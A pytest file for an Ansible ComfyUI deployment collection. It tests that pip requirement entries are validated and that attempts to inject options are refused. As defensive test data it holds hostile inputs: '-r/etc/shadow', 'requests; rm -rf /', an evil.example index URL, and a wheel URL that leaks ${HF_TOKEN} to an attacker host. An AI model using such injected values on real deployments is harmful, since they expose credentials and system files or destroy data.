"""Issue 26: what reaches pip as a package is a requirement, never an option. Before, an extra package `-r<file>` made
pip read that file and print its lines in the error, and a custom node's requirements.txt could give pip any option."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from ansible_collections.comfyops.comfyui.plugins.filter.deploy_preflight import deploy_preflight
from ansible_collections.comfyops.comfyui.plugins.module_utils import _requirement, _venv
from wheels import make_wheel


@pytest.mark.parametrize(
    "entry",
    [
        "requests",
        "requests>=2.31,<3",
        "torch==2.5.1+cu124",
        "Pillow[avif] ; python_version >= '3.9'",
        "name @ https://example.org/name-1.0-py3-none-any.whl",
        "/opt/wheels/torch-2.5.1+cu124-py3-none-any.whl",
        "/srv/pkgs/x-1.0.tar.gz",
    ],
)
def test_a_requirement_or_an_archive_path_is_a_package(entry):
    assert _requirement.package(entry, "extra_packages[0]") == entry.strip()


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("-r/etc/shadow", "extra_packages[2]: '-r/etc/shadow' starts with '-', so pip would read it as an option"),
        ("--index-url=https://evil.example/simple", "starts with '-'"),
        ("  -e git+https://x/y", "starts with '-'"),
        ("requests; rm -rf /", "is not a PEP 508 requirement"),
        ("requests\n-r /etc/shadow", "is not a package"),
        ("", "is not a package"),
        (None, "is not a package"),
        (3, "is not a package"),
        ("/etc/shadow", "is a path, but not of a wheel or source archive"),
        ("../x-1.0.whl", "is not a usable absolute path"),
        ("/opt/w/../x-1.0.whl", "is not a usable absolute path"),
        ("https://example.org/x.whl", "is not a PEP 508 requirement"),
    ],
)
def test_anything_else_is_refused_naming_the_entry(entry, message):
    with pytest.raises(_requirement.RequirementError) as caught:
        _requirement.package(entry, "extra_packages[2]")
    assert message in str(caught.value) and str(caught.value).startswith("extra_packages[2]: ")


def test_a_nodes_index_options_are_dropped_and_said_with_no_credentials():
    text = (
        "# pinned by the node\n"
        "--extra-index-url https://deployer:s3cret@pypi.example.org/simple\n"
        "goodhelper \\\n  >=0.3  # a comment\n"
        "-f https://wheels.example.org/\n"
        "--pre\n"
    )
    kept, notes = _requirement.node_requirements(text, "Good-Pack")
    assert kept == "goodhelper   >=0.3\n"
    assert len(notes) == 3 and all(note.startswith("custom node 'Good-Pack': requirements.txt line ") for note in notes)
    assert "line 2 (--extra-index-url https://pypi.example.org/simple) ignored" in notes[0]
    assert "s3cret" not in " ".join(notes)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("-r /etc/shadow", "line 2 is the pip option -r, which a custom node may not give"),
        ("-r/etc/shadow", "line 2 is the pip option -r/etc/shadow"),
        ("--requirement=/root/x.txt", "the pip option --requirement"),
        ("-c constraints.txt", "the pip option -c"),
        ("-e git+https://x.example/y#egg=y", "the pip option -e"),
        ("--trusted-host evil.example", "the pip option --trusted-host"),
        ("--index-url=https://x/simple --trusted-host y", None),  # an index option: dropped, not refused
        ("leak @ https://evil.example/${HF_TOKEN}/x.whl", "line 2 uses ${...}, which pip fills in from the deploy's environment"),
    ],
)
def test_any_other_option_or_an_environment_expansion_is_refused(line, message):
    text = "torch\n%s\n" % line
    if message is None:
        assert _requirement.node_requirements(text, "pack")[0] == "torch\n"
        return
    with pytest.raises(_requirement.RequirementError, match=r"^custom node 'pack': requirements\.txt ") as caught:
        _requirement.node_requirements(text, "pack")
    assert message in str(caught.value)


def _app(tmp_path, node_text):
    app = tmp_path / "app"
    (app / "custom_nodes" / "pack").mkdir(parents=True, exist_ok=True)
    (app / "requirements.txt").write_text("torch\n")
    (app / "custom_nodes" / "pack" / "requirements.txt").write_text(node_text)
    return app


def test_the_module_refuses_before_pip_runs_and_shows_no_line_of_the_named_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-LINE-one\nSECRET-LINE-two\n")
    app = _app(tmp_path, "torch\n-r %s\n" % secret)
    params = {"app": str(app), "python": sys.executable, "custom_nodes": ["pack"]}
    with pytest.raises(_venv.VenvError) as caught:
        _venv.read_spec(params)
    assert "custom node 'pack': requirements.txt line 2 is the pip option -r" in str(caught.value)
    app = _app(tmp_path, "torch\n")
    with pytest.raises(_venv.VenvError) as caught:
        _venv.read_spec(dict(params, extra_packages=["requests", "-r%s" % secret]))
    assert str(caught.value).startswith("extra_packages[1]: ") and "SECRET-LINE" not in str(caught.value)


def test_a_node_with_an_index_line_builds_from_the_deploys_indexes_and_says_so(tmp_path):
    wheels = tmp_path / "wheels"
    make_wheel(wheels, "torch", "2.5.1+cu124")
    make_wheel(wheels, "goodhelper", "0.3", requires=("torch>=2",))
    app = _app(tmp_path, "--extra-index-url https://user:pw@idx.example.org/simple\ngoodhelper\n")
    spec = _venv.read_spec({"app": str(app), "python": sys.executable, "custom_nodes": ["pack"], "find_links": [str(wheels)], "no_index": True})
    result = _venv.build(str(tmp_path / "srv"), spec, "pip")
    assert "goodhelper==0.3" in result["freeze"]
    (note,) = result["requirement_notes"]
    assert "line 1 (--extra-index-url https://idx.example.org/simple) ignored" in note and "pw" not in note
    copy = Path(result["path"]) / "requirements-pack.txt"
    assert copy.read_text() == "goodhelper\n", "pip read the parsed copy, not the node's file"


def test_the_deploy_preflight_parses_extra_packages_on_the_controller():
    good = {"release_id": "r1", "source": {"type": "local", "path": "/x"}, "instances": [{"name": "a", "port": 8188}], "listen": "127.0.0.1", "tier": "staging"}
    assert deploy_preflight(dict(good, extra_packages=["requests", "/opt/w/torch-2.5.1+cu124-py3-none-any.whl"])) == []
    (problem,) = deploy_preflight(dict(good, extra_packages=["requests", "-r/etc/shadow"]))
    assert problem.startswith("comfyui_deploy_extra_packages[1]: '-r/etc/shadow' starts with '-'")
